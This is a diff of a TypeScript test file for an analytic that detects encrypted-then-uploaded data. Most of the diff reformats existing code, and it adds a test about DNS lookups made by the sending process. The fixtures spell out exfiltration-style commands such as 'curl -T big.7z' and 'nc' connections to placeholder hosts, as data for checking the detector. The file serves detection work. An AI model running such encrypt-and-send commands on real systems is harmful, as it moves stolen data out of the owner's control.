@@ -29,16 +29,13 @@ function run(command: string, more: Partial<Process> = {}): Process {
 }
 
 function candidates(view: Partial<HostView>, analytic = an1390): Candidate[] {
-  return analytic.candidates(
-    hostView({ platform: 'linux', ...view }),
-    DEFAULT_PARAMETERS.correlationWindow,
-  );
+  return analytic.candidates(hostView({ platform: 'linux', ...view }), DEFAULT_PARAMETERS.correlationWindow);
 }
 
 function ties(sending: Egress, operation: ObservedOperation, analytic = an1390): string[] {
   const processes = [sending.process, operation.process];
-  return candidates({ processes, egresses: [sending], operations: [operation] }, analytic).flatMap(({ links }) =>
-    links.map(({ link }) => link.kind),
+  return candidates({ processes, egresses: [sending], operations: [operation] }, analytic).flatMap(
+    ({ links }) => links.map(({ link }) => link.kind),
   );
 }
 
@@ -67,7 +64,10 @@ describe('AN1390', () => {
   it('does not take a download, a server or a session on another host for a transfer', () => {
     const cipher = encrypts(run('openssl enc', { parent: script }), ['/tmp/a.bin']);
     for (const command of ['curl -o page.html https://x.example/', 'nc -l 4444', 'ssh admin@x.example'])
-      expect(ties(sends(run(command, { parent: script, start: ENCRYPTED + SECOND })), cipher), command).toEqual([]);
+      expect(
+        ties(sends(run(command, { parent: script, start: ENCRYPTED + SECOND })), cipher),
+        command,
+      ).toEqual([]);
   });
 
   it('knows the file by the name the sender gives it, from its own folder, or after it was moved or split', () => {
@@ -96,7 +96,10 @@ describe('AN1390', () => {
 
   it('lets a sender of other files go', () => {
     const cipher = encrypts(run('gpg -c notes', { parent: typed }), ['/home/alice/notes.gpg']);
-    const sender = run('curl -T report.pdf http://x.example', { parent: typed, start: ENCRYPTED + 5 * SECOND });
+    const sender = run('curl -T report.pdf http://x.example', {
+      parent: typed,
+      start: ENCRYPTED + 5 * SECOND,
+    });
     expect(ties(sends(sender), cipher)).toEqual([]);
   });
 
@@ -117,7 +120,10 @@ describe('AN1390', () => {
     const weight = (parent: Process): number => {
       const cipher = encrypts(run('gpg -c notes', { parent }));
       const sender = run('uploader --now', { parent, start: ENCRYPTED + 20 * SECOND });
-      return candidates({ egresses: [sends(sender, 30 * SECOND)], operations: [cipher] })[0]?.links[0]?.link.weight ?? 0;
+      return (
+        candidates({ egresses: [sends(sender, 30 * SECOND)], operations: [cipher] })[0]?.links[0]?.link
+          .weight ?? 0
+      );
     };
     expect(weight(typed)).toBeLessThan(weight(script));
   });
@@ -129,14 +135,33 @@ describe('AN1390', () => {
       egresses: [sends(ftp), egress(ftp, { port: 50_123, first: ENCRYPTED + 11 * SECOND })],
       operations: [cipher],
     });
-    expect(found.map(({ egress: { port }, also }) => [port, also?.map((one) => one.port)])).toEqual([[443, [50_123]]]);
+    expect(found.map(({ egress: { port }, also }) => [port, also?.map((one) => one.port)])).toEqual([
+      [443, [50_123]],
+    ]);
     const turns = [0, 1, 2].map((turn) =>
-      sends(run('curl -T big.7z http://x.example', { parent: script, start: ENCRYPTED + turn * 5 * SECOND }), (turn + 1) * 5 * SECOND),
+      sends(
+        run('curl -T big.7z http://x.example', { parent: script, start: ENCRYPTED + turn * 5 * SECOND }),
+        (turn + 1) * 5 * SECOND,
+      ),
     );
     const loop = candidates({ egresses: turns, operations: [cipher] });
     expect(loop.map(({ also }) => also?.length)).toEqual([2]);
-    const nextDay = sends(run('curl -T big.7z http://x.example', { parent: script, start: ENCRYPTED + 20 * HOUR }), 20 * HOUR);
+    const nextDay = sends(
+      run('curl -T big.7z http://x.example', { parent: script, start: ENCRYPTED + 20 * HOUR }),
+      20 * HOUR,
+    );
     expect(candidates({ egresses: [...turns, nextDay], operations: [cipher] })).toHaveLength(2);
+  });
+
+  it('takes name lookups of a sender for part of its sending, and those of one that only asks for a sending', () => {
+    const cipher = encrypts(run('openssl enc -aes-256-cbc', { parent: script }));
+    const sender = run('nc 203.0.113.80 8443', { parent: script });
+    const lookup = (by: Process): Egress =>
+      egress(by, { address: '203.0.113.53', port: 53, protocol: 'udp', first: ENCRYPTED + SECOND });
+    const ports = (egresses: readonly Egress[]): number[] =>
+      candidates({ egresses, operations: [cipher] }).map(({ egress: { port } }) => port);
+    expect(ports([lookup(sender), sends(sender)])).toEqual([443]);
+    expect(ports([lookup(run('dig a.b.example', { parent: script }))])).toEqual([53]);
   });
 
   it('is one act in any order of the sendings', () => {
@@ -145,7 +170,10 @@ describe('AN1390', () => {
       sends(run('curl -T big.7z http://x.example', { parent: script }), (turn + 1) * 5 * SECOND),
     );
     const of = (egresses: readonly Egress[]): unknown =>
-      candidates({ egresses, operations: [cipher] }).map(({ egress: { first }, also }) => [first, also?.map((one) => one.first)]);
+      candidates({ egresses, operations: [cipher] }).map(({ egress: { first }, also }) => [
+        first,
+        also?.map((one) => one.first),
+      ]);
     expect(of(turns.toReversed())).toEqual(of(turns));
   });
 });
